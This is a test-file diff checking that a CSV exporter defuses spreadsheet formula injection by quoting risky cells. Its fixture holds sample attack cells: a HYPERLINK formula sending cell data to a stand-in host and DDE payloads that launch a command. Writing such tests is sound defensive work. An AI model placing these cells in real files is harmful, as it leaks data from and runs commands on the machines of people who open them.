@@ -65,3 +65,58 @@ def test_an_empty_store_exports_empty_files(store, tmp_path):
 def test_unknown_format(store, tmp_path):
     with pytest.raises(ConfigError):
         export(store, "xlsx", tmp_path)
+
+
+#: Cells a spreadsheet would run as formulas (written for this test).
+FORMULAS = {
+    "title": '=HYPERLINK("http://collector.example/?q="&A1,"Open the report")',
+    "outlet": "+cmd|' /C calc'!A0",
+    "tags": ["@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"],
+}
+FORMULA_TEXT = "=1+1 is how the ledger clerk began every line of the report on the shelling of the depot on Monday."
+
+
+def test_csv_cells_that_would_run_as_formulas_start_with_a_quote(store, nlp, tmp_path):
+    import json
+
+    from corroborator.pipeline.storing import ingest
+
+    source = tmp_path / "formulas.jsonl"
+    source.write_text(json.dumps({"text": FORMULA_TEXT, **FORMULAS}) + "\n", encoding="utf-8")
+    ingest(store, [str(source)], nlp=nlp)
+    export(store, "csv", tmp_path / "csv")
+    with (tmp_path / "csv" / "documents.csv").open(encoding="utf-8", newline="") as stream:
+        (row,) = list(csv.DictReader(stream))
+    assert row["title"] == "'" + FORMULAS["title"]
+    assert row["outlet"] == "'" + FORMULAS["outlet"]
+    assert row["text"] == "'" + FORMULA_TEXT
+    assert json.loads(row["tags"].removeprefix("'")) == FORMULAS["tags"]  # a JSON array starts with "["
+    assert row["input"].endswith("formulas.jsonl#1") and not row["input"].startswith("'")
+    # The exact values stay in JSON Lines and Parquet, which no spreadsheet runs.
+    (line,) = export(store, "jsonl", tmp_path / "jsonl")[0].read_text(encoding="utf-8").splitlines()
+    assert json.loads(line)["title"] == FORMULAS["title"]
+    export(store, "parquet", tmp_path / "parquet")
+    assert pq.read_table(tmp_path / "parquet" / "documents.parquet").column("outlet").to_pylist() == [
+        FORMULAS["outlet"]
+    ]
+
+
+@pytest.mark.parametrize(
+    ("cell", "shown"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+1", "'+1"),
+        ("-1", "'-1"),
+        ("@A1", "'@A1"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("\uff1d1+1", "'\uff1d1+1"),
+        ("a = b", "a = b"),
+        ("", ""),
+        ("'=1", "'=1"),
+    ],
+)
+def test_csv_cell(cell, shown):
+    from corroborator.export import csv_cell
+
+    assert csv_cell(cell) == shown
